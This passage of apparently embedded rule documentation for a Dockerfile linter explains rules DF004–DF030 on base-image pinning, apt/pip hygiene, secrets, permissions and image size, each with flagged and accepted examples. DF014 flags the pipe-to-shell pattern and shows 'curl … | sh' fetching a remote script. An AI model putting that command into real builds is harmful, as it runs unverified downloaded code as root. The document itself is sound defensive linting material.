Reports the final image's `HEALTHCHECK` when it calls `curl` or `wget` and neither the base image nor any `RUN`/`COPY` of the final stage's lineage provides it, and a shell-form `HEALTHCHECK` on a base without `/bin/sh`. What a base contains comes from a dated table (as of 2026-11): the full `python`/`node`/`ruby`/`golang`/`rust` images have curl and wget, their `-slim` variants have neither, Alpine variants have BusyBox `wget` only, distroless has no shell. A package installed and purged in the same `RUN` does not count. Unknown bases are not judged.

## Why
The check fails on every run, so the container is marked unhealthy forever: Compose never starts services that wait for it, Swarm restarts it in a loop, and the real state of the service is hidden behind a permanent false alarm.

## How to fix
Probe with what the image already has (the Python or Node runtime, a health-check binary of the application, BusyBox `wget` on Alpine), or install the tool in the final stage.

## Example
Reported:
```dockerfile
FROM python:3.13-slim
HEALTHCHECK CMD curl -f http://127.0.0.1:8000/health || exit 1
```
Not reported:
```dockerfile
FROM python:3.13-slim
HEALTHCHECK CMD ["python3", "-c", "import urllib.request; urllib.request.urlopen('http://127.0.0.1:8000/health')"]
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF004.md", text: ###"""
---
id: DF004
title: Base image is not pinned to a version
kind: dockerfile
severity: warning
tags: [reliability, security]
references:
  - https://docs.docker.com/build/building/best-practices/#pin-base-image-versions
  - https://docs.docker.com/reference/dockerfile/#from
equivalents:
  hadolint: "DL3006, DL3007"
  checkov: "CKV_DOCKER_7"
---
Reports a `FROM` image without a tag (which means `:latest`) or with the `latest` tag, at the image argument, after substituting the global `ARG`s. `scratch`, references to earlier stages, digest-pinned images and images whose variable has no value in the file are not reported.

## Why
`latest` moves whenever upstream pushes: the same Dockerfile builds a different image next week, a new major version can break the build or the application, and nothing records which base a running image came from.

## How to fix
Pin a version tag (and, for a reproducible build, its digest — see DF005).

## Example
Reported:
```dockerfile
FROM node
FROM python:latest
```
Not reported:
```dockerfile
FROM node:24-slim
FROM python:3.13-slim
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF005.md", text: ###"""
---
id: DF005
title: Base image is not pinned by digest
kind: dockerfile
severity: note
tags: [security, reliability]
references:
  - https://docs.docker.com/build/building/best-practices/#pin-base-image-versions
  - https://docs.docker.com/reference/dockerfile/#from
  - "CIS Docker Benchmark v1.6.0, 4.2: Ensure that containers use only trusted base images"
---
Reports a `FROM` image pinned by tag but not by digest, at the image argument. Images that DF004 already reports (no tag, `latest`), `scratch` and stage references are left out.

## Why
Tags are mutable: a registry account takeover, a re-pushed tag or a mirror can swap the base under a tag you reviewed. A digest names exactly one image, so builds are reproducible and the supply chain is auditable.

## How to fix
Append the digest to the tag and let Renovate or Dependabot bump both: `FROM python:3.13-slim@sha256:<digest>`.

## Example
Reported:
```dockerfile
FROM python:3.13-slim
```
Not reported:
```dockerfile
FROM python:3.13-slim@sha256:8f3aba466a471c0ab903dbd7cb979abd4bda370b04789d25440cc90372b50e04
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF006.md", text: ###"""
---
id: DF006
title: ADD used to copy local files
kind: dockerfile
severity: warning
tags: [best-practice, security]
references:
  - "CIS Docker Benchmark v1.6.0, 4.9: Ensure that COPY is used instead of ADD in Dockerfiles"
  - https://docs.docker.com/build/building/best-practices/#add-or-copy
equivalents:
  hadolint: "DL3020"
  checkov: "CKV_DOCKER_4"
---
Reports `ADD` whose sources are all local files or directories that are not tar archives, at the `ADD` keyword. `ADD` of a local tar archive (which it unpacks) and of URLs (DF007) is left alone.

## Why
`ADD` also downloads URLs and silently unpacks archives. Using it for plain copies hides which of those the author meant, and a file that happens to be an archive gets extracted instead of copied.

## How to fix
Use `COPY`; keep `ADD` for unpacking a local archive.

## Example
Reported:
```dockerfile
ADD app.py /app/app.py
```
Not reported:
```dockerfile
COPY app.py /app/app.py
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF007.md", text: ###"""
---
id: DF007
title: ADD downloads without a checksum
kind: dockerfile
severity: warning
tags: [security]
security-severity: 5.5
references:
  - "CIS Docker Benchmark v1.6.0, 4.9: Ensure that COPY is used instead of ADD in Dockerfiles"
  - https://docs.docker.com/reference/dockerfile/#add---checksum
  - https://docs.docker.com/reference/dockerfile/#adding-private-git-repositories
equivalents:
  checkov: "CKV_DOCKER_4"
---
Reports each remote `ADD` source, at the URL: an HTTP(S) URL without `--checksum`, or a Git repository at a branch or tag instead of a commit.

## Why
Whatever the server returns at build time goes into the image unverified: a compromised release page, a moved tag or a man-in-the-middle on a mirror changes the image without any change to the Dockerfile.

## How to fix
Add `--checksum=sha256:<digest>` (BuildKit, with a `# syntax=docker/dockerfile:1` line), or download with `curl` in a `RUN` and check the hash there. Pin Git sources to a full commit id.

## Example
Reported:
```dockerfile
ADD https://example.com/releases/tool-1.4.2.tar.gz /tmp/
```
Not reported:
```dockerfile
# syntax=docker/dockerfile:1
ADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://example.com/releases/tool-1.4.2.tar.gz /tmp/
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF008.md", text: ###"""
---
id: DF008
title: apt-get install without -y
kind: dockerfile
severity: warning
tags: [reliability]
references:
  - https://docs.docker.com/build/building/best-practices/#apt-get
  - https://manpages.debian.org/apt-get.8
equivalents:
  hadolint: "DL3014"
---
Reports `apt-get` (or `apt`) `install`, `upgrade`, `remove`… in a `RUN` without `-y`/`--yes`/`--assume-yes` (alone or in a cluster such as `-qy`), at the subcommand. Simulations (`-s`), `-o APT::Get::Assume-Yes=true` and `yes | apt-get …` are not reported.

## Why
apt asks for confirmation before changing packages; a build has no terminal, so apt answers the prompt with "abort" and the `RUN` fails — usually only once a package set grows and the prompt appears.

## How to fix
Always pass `-y`.

## Example
Reported:
```dockerfile
RUN apt-get update && apt-get install --no-install-recommends curl
```
Not reported:
```dockerfile
RUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF009.md", text: ###"""
---
id: DF009
title: apt-get install pulls in recommended packages
kind: dockerfile
severity: note
tags: [cost, security]
references:
  - "CIS Docker Benchmark v1.6.0, 4.3: Ensure that unnecessary packages are not installed in the container"
  - https://docs.docker.com/build/building/best-practices/#apt-get
  - https://wiki.debian.org/ReduceDebian#Reconfigure_apt_so_that_it_does_not_install_additional_packages
equivalents:
  hadolint: "DL3015"
---
Reports `apt-get install` (or `apt install`) with packages and without `--no-install-recommends` in a stage whose layers reach the final image, at the subcommand. `-o APT::Install-Recommends=false`, and an earlier `APT::Install-Recommends "0"` written to `/etc/apt/apt.conf.d`, count as opting out. Build stages that are not part of the final image are left alone.

## Why
Recommended packages are installed by default and often add tens of megabytes (documentation tools, X libraries, compilers) that the service never uses — more to pull, more CVEs to triage.

## How to fix
Add `--no-install-recommends` and list what you really need.

## Example
Reported:
```dockerfile
RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*
```
Not reported:
```dockerfile
RUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF010.md", text: ###"""
---
id: DF010
title: apt lists left in the image
kind: dockerfile
severity: note
tags: [cost]
references:
  - https://docs.docker.com/build/building/best-practices/#apt-get
equivalents:
  hadolint: "DL3009"
---
Reports `apt-get update` in a `RUN` that also installs packages but does not remove `/var/lib/apt/lists` (nor run `apt-get dist-clean`, nor mount a cache over `/var/lib/apt`), in a stage whose layers reach the final image, at `update`.

## Why
The package lists that `apt-get update` downloads are tens of megabytes. Deleting them in a later `RUN` does not help: they stay in the earlier layer.

## How to fix
End the same `RUN` with `rm -rf /var/lib/apt/lists/*`, or use BuildKit cache mounts for `/var/lib/apt` and `/var/cache/apt`.

## Example
Reported:
```dockerfile
RUN apt-get update && apt-get install -y --no-install-recommends curl
```
Not reported:
```dockerfile
RUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF011.md", text: ###"""
---
id: DF011
title: Package index update alone in its RUN
kind: dockerfile
severity: warning
tags: [reliability]
references:
  - "CIS Docker Benchmark v1.6.0, 4.7: Ensure update instructions are not used alone in the Dockerfile"
  - https://docs.docker.com/build/building/best-practices/#apt-get
equivalents:
  checkov: "CKV_DOCKER_5"
---
Reports `apt-get update` (or `apk update`) in a `RUN` that installs nothing of that package manager, when a later `RUN` of the stage (or of a stage built on it) installs packages without refreshing the index itself, at `update`. An `apk add --no-cache`/`--update` later fetches a fresh index and is not affected.

## Why
Docker caches each `RUN` by its text. The update layer is reused for months while a later `RUN apt-get install …` changes, so the install runs against stale lists: removed package versions fail to download, and security updates are silently missed.

## How to fix
Update and install in the same `RUN`.

## Example
Reported:
```dockerfile
RUN apt-get update
RUN apt-get install -y --no-install-recommends curl
```
Not reported:
```dockerfile
RUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF012.md", text: ###"""
---
id: DF012
title: apk add without --no-cache
kind: dockerfile
severity: note
tags: [cost]
references:
  - https://wiki.alpinelinux.org/wiki/Alpine_Package_Keeper#Local_Cache
  - https://docs.docker.com/build/building/best-practices/
equivalents:
  hadolint: "DL3019"
---
Reports `apk add` without `--no-cache` in a stage whose layers reach the final image, at `add`, unless the same `RUN` removes `/var/cache/apk` or runs `apk cache`, or a cache mount covers `/var/cache/apk`.

## Why
Without `--no-cache`, apk keeps the downloaded package index in `/var/cache/apk` in the layer: a few megabytes on an image that is often only a few megabytes itself.

## How to fix
Use `apk add --no-cache …`.

## Example
Reported:
```dockerfile
RUN apk add curl
```
Not reported:
```dockerfile
RUN apk add --no-cache curl
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF013.md", text: ###"""
---
id: DF013
title: pip install keeps its cache
kind: dockerfile
severity: warning
tags: [cost]
references:
  - https://pip.pypa.io/en/stable/topics/caching/
  - https://docs.docker.com/build/cache/optimize/#use-cache-mounts
equivalents:
  hadolint: "DL3042"
---
Reports `pip install` (also `pipN`, `python -m pip`) without `--no-cache-dir` in a stage whose layers reach the final image, at `install`. Not reported when `PIP_NO_CACHE_DIR` is set (ENV, ARG or on the command), when a cache mount covers pip's cache, or when the same `RUN` removes `~/.cache` or runs `pip cache purge`. Build stages that are not part of the final image are left alone: their cache is not copied.

## Why
pip stores every downloaded wheel under `~/.cache/pip`. In an image that cache is dead weight — often as large as the installed packages themselves.

## How to fix
Add `--no-cache-dir`, set `ENV PIP_NO_CACHE_DIR=1`, or use `RUN --mount=type=cache,target=/root/.cache/pip` so the cache lives outside the image.

## Example
Reported:
```dockerfile
RUN pip install -r requirements.txt
```
Not reported:
```dockerfile
RUN pip install --no-cache-dir -r requirements.txt
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF014.md", text: ###"""
---
id: DF014
title: Downloaded script piped to a shell
kind: dockerfile
severity: warning
tags: [security]
security-severity: 7.0
references:
  - "CIS Docker Benchmark v1.6.0, 4.11: Ensure only verified packages are installed"
  - https://docs.docker.com/build/building/best-practices/#run
  - https://www.seancassidy.me/dont-pipe-to-your-shell.html
---
Reports a shell that runs what curl or wget download without a check, at the shell: `curl … | sh`, `wget -O- … | sudo bash -`, `sh -c "$(curl …)"` and `bash <(curl …)`, in `RUN` and `ONBUILD RUN`.

## Why
The script is executed as root in the build with no integrity check: whatever the server (or anyone between) returns at that moment runs, and nothing in the Dockerfile records what it was. A truncated download can also run half a script.

## How to fix
Download to a file, verify its SHA-256 (or signature) against a value committed in the Dockerfile, then run it — or install the tool from a package repository.

## Example
Reported:
```dockerfile
RUN curl -fsSL https://get.example.com/install.sh | sh
```
Not reported:
```dockerfile
RUN curl -fsSLo /tmp/install.sh https://get.example.com/install.sh \
 && echo "<sha256>  /tmp/install.sh" | sha256sum -c - \
 && sh /tmp/install.sh && rm /tmp/install.sh
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF015.md", text: ###"""
---
id: DF015
title: sudo in RUN
kind: dockerfile
severity: error
tags: [security, best-practice]
security-severity: 5.0
references:
  - https://docs.docker.com/build/building/best-practices/#user
equivalents:
  hadolint: "DL3004"
  checkov: "CKV2_DOCKER_1"
---
Reports `sudo` used as a command in `RUN` (including heredoc scripts, `sh -c` strings and `ONBUILD RUN`), at `sudo`.

## Why
Build steps already run as the current `USER`; sudo adds nothing but a setuid-root binary in the image, TTY and PAM behaviour that differs from a shell, and an easy privilege-escalation path for whoever gets into the container.

## How to fix
Run the steps that need root under `USER root` and switch back to the unprivileged user afterwards.

## Example
Reported:
```dockerfile
RUN sudo apt-get update && sudo apt-get install -y --no-install-recommends git
```
Not reported:
```dockerfile
USER root
RUN apt-get update && apt-get install -y --no-install-recommends git && rm -rf /var/lib/apt/lists/*
USER 10001
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF016.md", text: ###"""
---
id: DF016
title: cd at the start of RUN instead of WORKDIR
kind: dockerfile
severity: warning
tags: [maintainability]
references:
  - https://docs.docker.com/build/building/best-practices/#workdir
equivalents:
  hadolint: "DL3003"
---
Reports a shell-form `RUN` whose first command (after `set`/`export`) is `cd dir`, at that `cd`; a `RUN` that only changes directory is reported as having no effect. `cd` later in a script, in a subshell `( … )`, in heredoc scripts, and to targets that need shell-only expansions (`${VAR%…}`, `$(…)`) is left alone.

## Why
The directory change lasts for one `RUN`; the next instruction starts in the `WORKDIR` again. Starting `RUN`s with `cd` repeats the path, hides where files land and invites the bug of a later `RUN` that forgot it.

## How to fix
Set `WORKDIR` once before the instructions that work there.

## Example
Reported:
```dockerfile
RUN cd /app && npm ci
```
Not reported:
```dockerfile
WORKDIR /app
RUN npm ci
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF017.md", text: ###"""
---
id: DF017
title: Relative WORKDIR
kind: dockerfile
severity: warning
tags: [reliability, maintainability]
references:
  - https://docs.docker.com/reference/dockerfile/#workdir
equivalents:
  hadolint: "DL3000"
  checkov: "CKV_DOCKER_10"
---
Reports a `WORKDIR` whose path, after substituting known `ARG`/`ENV` values, is not absolute, at the path; the message spells out the absolute path when an earlier `WORKDIR` of the stage is known. `WORKDIR .`, Windows drive paths and paths with unknown variables are not reported.

## Why
A relative `WORKDIR` is resolved against the previous one — possibly set by the base image, which can change with a tag bump. The directory the image works in then depends on something the Dockerfile does not show.

## How to fix
Write absolute paths.

## Example
Reported:
```dockerfile
WORKDIR app
```
Not reported:
```dockerfile
WORKDIR /app
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF018.md", text: ###"""
---
id: DF018
title: COPY --from names no earlier stage
kind: dockerfile
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/build/building/multi-stage/#name-your-build-stages
  - https://docs.docker.com/reference/dockerfile/#copy---from
equivalents:
  hadolint: "DL3022, DL3023"
---
Reports `COPY --from=` and `RUN --mount=from=` values that name the instruction's own stage, a stage defined later, a stage index that does not exist, or a bare name that is not a stage but is a dash-separated part of one or within two edits of one (`buidler` for `builder`), at the value. Values with a registry, path, tag or digest are images and are not judged.

## Why
Docker only resolves stages defined earlier; anything else is taken as an image name and pulled from Docker Hub. A typo therefore fails the build at best, or copies files out of a stranger's image at worst.

## How to fix
Name an earlier stage (stage names are case-insensitive), or move the stage above the `COPY`.

## Example
Reported:
```dockerfile
FROM golang:1.27 AS builder
RUN go build -o /out/app .
FROM alpine:3.22
COPY --from=buidler /out/app /usr/local/bin/app
```
Not reported:
```dockerfile
FROM golang:1.27 AS builder
RUN go build -o /out/app .
FROM alpine:3.22
COPY --from=builder /out/app /usr/local/bin/app
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF019.md", text: ###"""
---
id: DF019
title: Duplicate stage name
kind: dockerfile
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/build/building/multi-stage/#name-your-build-stages
  - https://docs.docker.com/reference/build-checks/duplicate-stage-name/
equivalents:
  hadolint: "DL3024"
  checkov: "CKV_DOCKER_11"
  docker-build-checks: "DuplicateStageName"
---
Reports a stage whose `AS` name (compared case-insensitively, as Docker does) was already used by an earlier stage, at the second name.

## Why
BuildKit rejects the file; older builders let the later stage shadow the earlier one, so `COPY --from=name` silently copies from a different stage than the author meant.

## How to fix
Give every stage a unique name.

## Example
Reported:
```dockerfile
FROM node:24-slim AS build
FROM node:24-slim AS Build
```
Not reported:
```dockerfile
FROM node:24-slim AS deps
FROM deps AS build
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF020.md", text: ###"""
---
id: DF020
title: Repeated CMD, ENTRYPOINT or HEALTHCHECK in a stage
kind: dockerfile
severity: warning
tags: [maintainability]
references:
  - https://docs.docker.com/reference/dockerfile/#cmd
  - https://docs.docker.com/reference/build-checks/multiple-instructions-disallowed/
equivalents:
  hadolint: "DL4003, DL4004"
  docker-build-checks: "MultipleInstructionsDisallowed"
---
Reports every `CMD`, `ENTRYPOINT` and `HEALTHCHECK` of a stage that a later one of the same kind in that stage overrides, at the overridden keyword (the one to delete).

## Why
Only the last one takes effect. The earlier ones are dead code that readers take at face value — usually a leftover from copy-paste that hides which command really runs.

## How to fix
Keep one of each per stage.

## Example
Reported:
```dockerfile
CMD ["python", "-m", "http.server"]
CMD ["python", "/app/app.py"]
```
Not reported:
```dockerfile
CMD ["python", "/app/app.py"]
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF021.md", text: ###"""
---
id: DF021
title: Shell-form CMD or ENTRYPOINT in the final image
kind: dockerfile
severity: warning
tags: [reliability]
references:
  - https://docs.docker.com/reference/dockerfile/#shell-and-exec-form
  - https://docs.docker.com/reference/build-checks/json-args-recommended/
equivalents:
  hadolint: "DL3025"
  docker-build-checks: "JSONArgsRecommended"
---
Reports the final image's effective `ENTRYPOINT` and `CMD` when written in shell form, at the command; a shell-form `CMD` after an exec-form `ENTRYPOINT` is reported because it reaches the entrypoint as `/bin/sh -c …`. A shell-form command that starts with `exec` (which replaces the shell) is accepted, except as arguments to an `ENTRYPOINT`.

## Why
Shell form runs `/bin/sh -c "…"`: the shell is PID 1 and does not forward SIGTERM, so `docker stop` waits for the timeout and then kills the service — no graceful shutdown, dropped requests, unflushed writes.

## How to fix
Use the JSON (exec) form; the message suggests one when the command is a simple one.

## Example
Reported:
```dockerfile
CMD uvicorn app.main:app --host 0.0.0.0 --port 8000
```
Not reported:
```dockerfile
CMD ["uvicorn", "app.main:app", "--host", "0.0.0.0", "--port", "8000"]
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF022.md", text: ###"""
---
id: DF022
title: World-writable permissions
kind: dockerfile
severity: warning
tags: [security]
security-severity: 5.5
references:
  - https://docs.docker.com/reference/dockerfile/#copy---chmod
  - https://man7.org/linux/man-pages/man1/chmod.1.html
---
Reports `chmod` in `RUN` and `COPY`/`ADD --chmod` with a mode that lets every user write (an octal mode whose last digit has the write bit, such as `777` or `666`; symbolic `a+w`/`o+w`), at the mode. Modes with the sticky bit (`1777`, `+t`) and scratch directories deleted later in the same `RUN` are left alone.

## Why
Any process in the container, whatever its user, can then rewrite the application's code or configuration — the usual step from a foothold in a web process to persistent code execution.

## How to fix
Give the files to the user that needs them (`chown`/`--chown`) and use `755` for directories and executables, `644` for data.

## Example
Reported:
```dockerfile
RUN mkdir -p /data && chmod -R 777 /data
```
Not reported:
```dockerfile
RUN mkdir -p /data && chown 10001:10001 /data && chmod 750 /data
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF023.md", text: ###"""
---
id: DF023
title: Secret in ENV or ARG
kind: dockerfile
severity: error
tags: [security]
security-severity: 8.0
references:
  - "CIS Docker Benchmark v1.6.0, 4.10: Ensure secrets are not stored in Dockerfiles"
  - https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/
  - https://docs.docker.com/build/building/secrets/
equivalents:
  docker-build-checks: "SecretsUsedInArgOrEnv"
---
Reports `ENV` values and `ARG` defaults that set a secret-looking name (words such as PASSWORD, PASSWD, SECRET, TOKEN, API_KEY, PRIVATE_KEY, ACCESS_KEY, CREDENTIALS) to a literal value, at the value; the value is redacted in every report. Names that describe a secret rather than hold one (`…_FILE`, `…_PATH`, `…_URL`, `…_ID`, `…_TTL`…), variable references, paths and obvious placeholders (`changeme`, `<…>`, `your-…`, `example`, `fake`) are not reported.

## Why
`ENV` values are stored in the image config and `ARG` defaults in the build history: anyone who can pull the image reads them with `docker inspect` or `docker history`, and they live on in every registry and cache the image passes through.

## How to fix
Pass secrets at run time (environment, a secret store, mounted files), and at build time with `RUN --mount=type=secret`.

## Example
Reported:
```dockerfile
ENV POSTGRES_PASSWORD=s3cr3t
```
Not reported:
```dockerfile
# build time:
RUN --mount=type=secret,id=npm_token NPM_TOKEN=$(cat /run/secrets/npm_token) npm ci
# run time: docker run -e POSTGRES_PASSWORD_FILE=/run/secrets/db …
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF024.md", text: ###"""
---
id: DF024
title: Build toolchain left in the final image
kind: dockerfile
severity: warning
tags: [cost, security]
references:
  - "CIS Docker Benchmark v1.6.0, 4.3: Ensure that unnecessary packages are not installed in the container"
  - https://docs.docker.com/build/building/multi-stage/
  - https://docs.docker.com/build/building/best-practices/#use-multi-stage-builds
---
Reports compilers and build tools (build-essential, build-base, gcc, g++, clang, make, cmake, cargo, rustc, golang, rustup's installer, and the Python build tools maturin, cython, setuptools-rust) installed in the final stage or the stages it is built on, at the package. Tools removed again in the same `RUN` (`apt-get purge`, the `apt-mark auto … --auto-remove` idiom, `apk del` of a `--virtual` group) are not reported. A warning in a multi-stage build; a note in a single-stage one, where a build stage first has to be introduced.

## Why
A toolchain adds hundreds of megabytes and lets an attacker who gets into the container build and run whatever they like. It is only needed to build, not to run.

## How to fix
Install the toolchain in a build stage, build there (wheels, binaries), and `COPY --from` only the artifacts into a slim final stage.

## Example
Reported:
```dockerfile
FROM python:3.13-slim
RUN apt-get update && apt-get install -y --no-install-recommends build-essential && rm -rf /var/lib/apt/lists/*
RUN pip install --no-cache-dir -r requirements.txt
```
Not reported:
```dockerfile
FROM python:3.13-slim AS build
RUN apt-get update && apt-get install -y --no-install-recommends build-essential && rm -rf /var/lib/apt/lists/*
RUN pip wheel --no-cache-dir --wheel-dir /wheels -r requirements.txt
FROM python:3.13-slim
COPY --from=build /wheels /wheels
RUN pip install --no-cache-dir /wheels/* && rm -rf /wheels
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF025.md", text: ###"""
---
id: DF025
title: COPY of the whole context without a .dockerignore
kind: dockerfile
severity: warning
tags: [security, cost]
security-severity: 4.0
references:
  - https://docs.docker.com/build/concepts/context/#dockerignore-files
  - https://docs.docker.com/build/building/best-practices/#exclude-with-dockerignore
---
Reports the first `COPY`/`ADD` of the whole build context (`.`, `./`, `*`) when the directory holding the Dockerfile has neither a `.dockerignore` nor a `<Dockerfile name>.dockerignore`, at the source. Copies from stages or images are left alone. The rule assumes the build context is the Dockerfile's directory; when the linter is not given the directory listing it stays silent.

## Why
Everything in the directory goes into the image: `.git` with its history, `.env` files with credentials, local virtualenvs and `node_modules`, test data. Secrets end up in a layer, images grow, and every unrelated file change busts the build cache.

## How to fix
Add a `.dockerignore` next to the Dockerfile (at least `.git`, `.env*`, build output and dependency folders), or copy named paths only.

## Example
Reported:
```dockerfile
COPY . .   # and no .dockerignore
```
Not reported:
```dockerfile
# .dockerignore
.git
.env*
node_modules/
__pycache__/
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF026.md", text: ###"""
---
id: DF026
title: Deprecated MAINTAINER
kind: dockerfile
severity: warning
tags: [maintainability]
references:
  - https://docs.docker.com/reference/dockerfile/#maintainer-deprecated
  - https://docs.docker.com/reference/build-checks/maintainer-deprecated/
  - https://github.com/opencontainers/image-spec/blob/main/annotations.md
equivalents:
  hadolint: "DL4000"
  checkov: "CKV_DOCKER_6"
  docker-build-checks: "MaintainerDeprecated"
---
Reports every `MAINTAINER` instruction, at the keyword.

## Why
`MAINTAINER` has been deprecated since Docker 1.13 and only fills a legacy field that tools no longer read; the OCI annotation `org.opencontainers.image.authors` is what registries and scanners show.

## How to fix
Use a label.

## Example
Reported:
```dockerfile
MAINTAINER Jane Doe <jane@example.com>
```
Not reported:
```dockerfile
LABEL org.opencontainers.image.authors="Jane Doe <jane@example.com>"
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF027.md", text: ###"""
---
id: DF027
title: Invalid EXPOSE value
kind: dockerfile
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/dockerfile/#expose
equivalents:
  hadolint: "DL3011"
---
Reports `EXPOSE` values that are not `port[/tcp|udp|sctp]` or a range `start-end[/proto]` with ports from 1 to 65535 (after substituting known `ARG`/`ENV` values), at the value: port 0 or above 65535, an unknown protocol, a reversed range, or a `host:container` mapping.

## Why
Docker rejects the build for malformed values, and `EXPOSE 80:80` expresses a host port mapping that `EXPOSE` cannot make — the author expects a published port that never appears.

## How to fix
Expose container ports only; publish host ports at run time (`-p`, compose `ports:`).

## Example
Reported:
```dockerfile
EXPOSE 80:80 8080/http
```
Not reported:
```dockerfile
EXPOSE 80 8080/tcp
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF028.md", text: ###"""
---
id: DF028
title: BuildKit-only syntax without a syntax directive
kind: dockerfile
severity: note
tags: [reliability]
references:
  - https://docs.docker.com/reference/dockerfile/#syntax
  - https://docs.docker.com/build/buildkit/frontend/
---
Reports, once per file, the first BuildKit-only construct — heredocs, `RUN --mount`/`--network`/`--security`/`--device`, `COPY --link`/`--parents`/`--exclude`, `ADD --checksum`/`--keep-git-dir`/`--link` — when the file has no `# syntax=` directive; the message counts the others.

## Why
These features come from the Dockerfile frontend, not from the Docker engine. Without a `# syntax=` line the build uses whatever frontend the local builder embeds: the classic builder and older engines fail with confusing parse errors, and different machines build with different frontend versions.

## How to fix
Add `# syntax=docker/dockerfile:1` as the very first line: every BuildKit builder then fetches a current stable frontend.

## Example
Reported:
```dockerfile
RUN <<EOF
apt-get update
EOF
```
Not reported:
```dockerfile
# syntax=docker/dockerfile:1
RUN <<EOF
apt-get update
EOF
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF029.md", text: ###"""
---
id: DF029
title: useradd with a high UID and without -l
kind: dockerfile
severity: warning
tags: [cost]
references:
  - https://github.com/moby/moby/issues/5419
  - https://man7.org/linux/man-pages/man8/useradd.8.html
---
Reports `useradd -u N` (or `--uid N`) with N of 10000 or more and without `-l`/`--no-log-init`, at the UID. A warning from UID 100000 (a lastlog of about 29 MB and more); a note below that.

## Why
useradd reserves a record per UID in the sparse file `/var/log/lastlog` (292 bytes × UID). Image layers do not keep sparse files sparse, so the layer stores the whole file: about 3 MB for UID 10001, 29 MB for 100000, hundreds of MB for larger UIDs.

## How to fix
Pass `-l` (`--no-log-init`).

## Example
Reported:
```dockerfile
RUN useradd -u 10001 app
```
Not reported:
```dockerfile
RUN useradd -l -u 10001 app
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF030.md", text: ###"""
---
id: DF030
title: Final image over its size budget
kind: dockerfile
severity: warning
tags: [cost, performance]
references:
  - https://docs.docker.com/build/building/best-practices/#use-multi-stage-builds
  - https://docs.docker.com/build/building/best-practices/#dont-install-unnecessary-packages
options:
  budget-mb: "the size budget in MB (default 500)"
---
Estimates the final image's size and reports it, at the final `FROM`, when it exceeds the budget (500 MB unless the `budget-mb` option says otherwise). The estimate is the base of the final stage's lineage from a dated table of approximate uncompressed sizes (as of 2026-11: e.g. python:3.13 ~1020 MB, python:3.13-slim ~125 MB, python:3.13-alpine ~50 MB, node:24 ~1120 MB, node:24-slim ~220 MB, node:24-alpine ~155 MB, debian slim ~75 MB, alpine ~8 MB, distroless static ~2 MB), plus the OS packages the lineage installs and keeps (rough per-package sizes for well-known heavy ones such as build-essential ~240 MB or chromium ~350 MB, 5 MB for others, a third more without `--no-install-recommends`), well-known heavy Python wheels (torch, pandas, numpy…), and well-known heavy paths copied from other stages or images (a Rust toolchain, `/usr/local/go`, a whole stage copied with `COPY --from=stage / /`). Files from the build context are not counted. Unknown base images give no finding.

## Why
Image size is paid on every pull: slower deploys and autoscaling, registry storage and egress, and a larger attack surface. The deployment spec can set a stricter budget per pattern (200 MB for FraiseQL services).

## How to fix
Start the final stage from a slim, Alpine or distroless base, build in a separate stage and copy only artifacts, install with `--no-install-recommends` and without caches. The message lists the main contributors.

## Example
Reported:
```dockerfile
FROM python:3.13
RUN apt-get update && apt-get install -y --no-install-recommends build-essential libpq-dev && rm -rf /var/lib/apt/lists/*
```
Not reported:
```dockerfile
FROM python:3.13 AS build
RUN pip wheel --no-cache-dir --wheel-dir /wheels -r requirements.txt
FROM python:3.13-slim
COPY --from=build /wheels /wheels
RUN pip install --no-cache-dir /wheels/* && rm -rf /wheels
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF031.md", text: ###"""
---
id: DF031
title: End-of-life base image
kind: dockerfile
severity: warning
tags: [security, reliability]
security-severity: 6.0
references:
  - "CIS Docker Benchmark v1.6.0, 4.4: Ensure images are scanned and rebuilt to include security patches"
  - https://nodejs.org/en/about/previous-releases
  - https://www.ruby-lang.org/en/downloads/branches/
  - https://devguide.python.org/versions/
  - https://alpinelinux.org/releases/
  - https://wiki.debian.org/LTS
  - https://github.com/bitnami/containers/issues/83267
---
